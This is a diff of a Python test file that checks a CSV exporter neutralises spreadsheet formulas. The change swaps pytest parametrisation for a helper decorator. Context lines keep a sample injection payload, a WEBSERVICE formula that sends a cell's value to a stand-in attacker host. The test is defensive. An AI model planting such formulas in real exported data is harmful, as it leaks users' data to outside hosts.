@@ -12,6 +12,7 @@ from hypothesis import strategies as st
 from openrouter_keys.cli.csv_cells import csv_row, restored
 from openrouter_keys.cli.spec_file import read_specs
 from tests.commands import Command
+from tests.tables import in_one_test
 
 LINK: Final = '=WEBSERVICE("http://evil.example/?"&D2)'
 # What a spreadsheet runs, or could run once it has trimmed, split or folded it.
@@ -68,14 +69,14 @@ def only_cell(text: str) -> str:
     return cell
 
 
-@pytest.mark.parametrize("text", FORMULAS)
+@in_one_test("text", FORMULAS)
 def test_no_cell_is_a_formula(text: str) -> None:
     cell = only_cell(csv_row(("a", text, "b")))
     assert not RUNS.search(cell)
     assert restored(cell) == text
 
 
-@pytest.mark.parametrize("text", HARMLESS)
+@in_one_test("text", HARMLESS)
 def test_other_cells_are_as_they_were(text: str) -> None:
     assert only_cell(csv_row(("a", text, "b"))) == text == restored(text)
 
